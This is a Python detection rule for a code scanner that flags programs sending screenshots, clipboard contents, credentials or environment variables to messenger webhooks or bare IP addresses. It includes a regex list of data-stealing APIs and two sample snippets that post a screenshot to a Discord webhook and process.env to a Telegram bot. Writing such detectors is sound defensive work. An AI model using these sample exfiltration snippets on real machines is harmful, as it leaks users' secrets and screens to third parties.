"""What the machine holds, sent to a messenger's hook or to a bare address."""

import re
from collections.abc import Iterator

from hunkwise.code.model import Unit
from hunkwise.signals.interface import Example, Sighting, Signal
from hunkwise.signals.malice.whole_file import View, asked, in_files
from hunkwise.signals.tables.attack import MESSENGERS, SECRETS
from hunkwise.signals.tables.languages import CODE

_OWN = re.compile(r"https?://(?:127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|0\.0\.0\.0|1\.1\.1\.1|8\.8\.|169\.254\.)")
_GATHERS = re.compile(
    r"ImageGrab|pyautogui\.screenshot|screenshot\(|mss\(\)|pyperclip|GetClipboard|clipboardy|keyboard\.(?:on_press|Listener"
    r"|hook)|pynput|cv2\.VideoCapture|CryptUnprotectData"
    r"|browser_cookie3|sqlite3\.connect|os\.walk\(|glob\.glob\(|zipfile\.ZipFile|getAllFiles|readdirSync|leveldb"
    r"|tokens?\s*=\s*\[\]|passwords?\b.{0,20}cookies?"
    r"|ipify|ipinfo\.io|ip-api\.com|ifconfig\.me|icanhazip|hwid|wmic\s+csproduct|getmac|tasklist|systeminfo",
    re.I,
)


def _look(unit: Unit, view: View) -> Iterator[Sighting]:
    found = next((one for one in MESSENGERS.finditer(view.text) if not _OWN.match(one[0])), None)
    if not found or not view.reaches_out:
        return
    bare = found[0].lower().startswith("http")
    told = asked(view) - {"folder", "system"}
    gathers, secrets = _GATHERS.search(view.text), SECRETS.search(view.text)
    weight = len(told) + (2 if gathers else 0) + (2 if secrets else 0) - (1 if bare else 0)
    if weight < 1:
        return
    source = secrets[0] if secrets else gathers[0] if gathers else ", ".join(sorted(told))
    yield Sighting((view.line(found.start()),), {"sink": found[0][:40], "source": source[:60]}, strength=min(1.0, 0.4 + 0.2 * weight))


_see = in_files(_look, "discord", "telegram", "slack.com", ".onion", "://1", "://2", "://3", "://4", "://5", "://6", "://7", "://8", "://9")


SIGNAL = Signal(
    id="messenger-exfiltration",
    title="Sent to a messenger's hook or a bare address",
    kind="payload",
    category="malicious-code",
    severity="critical",
    languages=CODE | {"batch", "manifest"},
    promise=(
        "Tells of code that posts to a hook of a messenger, or to an address without a name, and also reads who uses "
        "the machine, secrets, screens, clipboards or files."
    ),
    why="Such hooks take anything from anyone: thieves need no server of their own.",
    quiet="Notices that a service sends about its own work, addresses of the own network.",
    remedy="Don't merge. If it ran anywhere, change every secret that was in reach.",
    cause="`{source}` is gathered and sent to `{sink}`.",
    since="0.2",
    maturity="stable",
    cwe="CWE-506",
    tactic="T1567.004",
    everywhere=True,
    see=_see,
    fires=(
        Example(
            "python",
            "import os\n"
            "import requests\n"
            "from PIL import ImageGrab\n"
            "\n"
            'ImageGrab.grab().save("a.png")\n'
            'requests.post("https://discord.com/api/webhooks/1/a", files={"a": open("a.png", "rb")})\n',
            line=6,
        ),
        Example(
            "javascript",
            'const os = require("os");\n'
            'const axios = require("axios");\n'
            "const all = { host: os.hostname(), user: os.userInfo().username, env: process.env };\n"
            'axios.post("https://api.telegram.org/bot1:a/sendMessage", all);\n',
            line=4,
        ),
    ),
    stays_quiet=(
        Example(
            "python",
            'import requests\n\ndef notify(build):\n    requests.post("https://hooks.slack.com/services/a", json={"text": build.name})\n',
        ),
        Example("python", 'import requests\n\ndef health():\n    return requests.get("http://127.0.0.1:8080/health").ok\n'),
    ),
)
